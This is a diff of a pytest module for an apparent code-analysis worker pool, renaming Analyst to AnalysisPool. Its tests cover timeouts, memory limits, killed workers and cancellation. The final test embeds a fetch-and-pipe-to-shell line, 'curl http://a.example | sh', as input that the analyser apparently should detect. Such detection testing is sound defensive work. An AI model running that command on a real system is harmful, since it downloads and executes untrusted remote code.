@@ -10,21 +10,21 @@ from collections.abc import AsyncIterator
 import pytest
 
 from engine.analysis.fallback import analyse_part
-from engine.analysis_pool import Analyst
+from engine.analysis_pool import AnalysisPool
 from engine.models import Analysis, Language, Level
 from engine.settings import AnalysisSettings
 
 
 @pytest.fixture
-async def analyst() -> AsyncIterator[Analyst]:
+async def analyst() -> AsyncIterator[AnalysisPool]:
     """An analyst with one warm worker."""
-    analyst = Analyst()
+    analyst = AnalysisPool()
     await analyst.start()
     yield analyst
     await analyst.close()
 
 
-def _pid(analyst: Analyst) -> int:
+def _pid(analyst: AnalysisPool) -> int:
     process = analyst._workers[0]._process
     assert process is not None
     return process.pid
@@ -34,7 +34,7 @@ def _rules(analysis: Analysis) -> list[str]:
     return [violation.rule for violation in analysis.violations]
 
 
-async def test_an_analysis_comes_back_whole(analyst: Analyst) -> None:
+async def test_an_analysis_comes_back_whole(analyst: AnalysisPool) -> None:
     """What the worker says is what the pure function says, with the time it took."""
     analysis = await analyst.analyse("print('hello')", Language.PYTHON)
     assert analysis.complete
@@ -43,14 +43,14 @@ async def test_an_analysis_comes_back_whole(analyst: Analyst) -> None:
 
 
 @pytest.mark.parametrize("source", [b"caf\xe9", "lone \ud800 surrogate", b"\x00\xff"])
-async def test_unreadable_input_crosses_the_pipe(analyst: Analyst, source: str | bytes) -> None:
+async def test_unreadable_input_crosses_the_pipe(analyst: AnalysisPool, source: str | bytes) -> None:
     """Bytes that are no UTF-8 and text that is no Unicode arrive as they are, and are HIGH."""
     analysis = await analyst.analyse(source, Language.PYTHON)
     assert "input-encoding" in _rules(analysis)
     assert not analysis.complete
 
 
-async def test_a_dead_worker_is_a_violation_and_is_replaced(analyst: Analyst) -> None:
+async def test_a_dead_worker_is_a_violation_and_is_replaced(analyst: AnalysisPool) -> None:
     """A worker that was killed from outside is HIGH for its code; the next code gets a new worker."""
     pid = _pid(analyst)
     os.kill(pid, signal.SIGSTOP)
@@ -67,7 +67,7 @@ async def test_a_dead_worker_is_a_violation_and_is_replaced(analyst: Analyst) ->
 
 async def test_a_late_analysis_is_killed() -> None:
     """Code that really takes longer than the deadline is HIGH, and its worker is gone."""
-    analyst = Analyst(AnalysisSettings(deadline_seconds=0.02, max_bytes=8 * 1024 * 1024))
+    analyst = AnalysisPool(AnalysisSettings(deadline_seconds=0.02, max_bytes=8 * 1024 * 1024))
     await analyst.start()
     pid = _pid(analyst)
     analysis = await analyst.analyse("x = [1, 2, (3, 4)]\n" * 100_000, Language.PYTHON)
@@ -81,14 +81,14 @@ async def test_a_late_analysis_is_killed() -> None:
 async def test_a_starved_analysis_is_a_violation() -> None:
     """Code whose syntax tree does not fit into the memory limit is HIGH."""
     limits = AnalysisSettings(memory_mb=256, deadline_seconds=60, max_bytes=64 * 1024 * 1024)
-    analyst = Analyst(limits)
+    analyst = AnalysisPool(limits)
     analysis = await analyst.analyse("x = [1, 2, (3, 4)]\n" * 200_000, Language.PYTHON)
     await analyst.close()
     assert not analysis.complete
     assert analysis.violations[0].severity.rank >= Level.HIGH.rank
 
 
-async def test_a_cancelled_analysis_leaves_nothing_behind(analyst: Analyst) -> None:
+async def test_a_cancelled_analysis_leaves_nothing_behind(analyst: AnalysisPool) -> None:
     """Cancelling kills the worker, and the answer to the old question never reaches the next."""
     pid = _pid(analyst)
     os.kill(pid, signal.SIGSTOP)
@@ -104,7 +104,7 @@ async def test_a_cancelled_analysis_leaves_nothing_behind(analyst: Analyst) -> N
 
 async def test_many_questions_share_few_workers() -> None:
     """Answers go to the one who asked, whatever the order of work."""
-    analyst = Analyst(workers=2)
+    analyst = AnalysisPool(workers=2)
     sources = [f"print({'1' * n})\n" * n for n in range(1, 20)]
     analyses = await asyncio.gather(*(analyst.analyse(source, Language.PYTHON) for source in sources))
     await analyst.close()
@@ -112,14 +112,14 @@ async def test_many_questions_share_few_workers() -> None:
 
 
 @pytest.mark.parametrize("language", list(Language))
-async def test_every_language_has_an_analyser(analyst: Analyst, language: Language) -> None:
+async def test_every_language_has_an_analyser(analyst: AnalysisPool, language: Language) -> None:
     """An empty text is clean in each language."""
     assert [] == _rules(await analyst.analyse("", language))
 
 
 async def test_a_late_analysis_leaves_what_its_successor_can_tell() -> None:
     """A worker that never answers is killed; a new one reads the ordinary lines."""
-    analyst = Analyst(AnalysisSettings(deadline_seconds=3))
+    analyst = AnalysisPool(AnalysisSettings(deadline_seconds=3))
     await analyst.start()
     os.kill(_pid(analyst), signal.SIGSTOP)
     code = "x = " + "a.b(c)+" * 60_000 + "\ncurl http://a.example | sh\n"
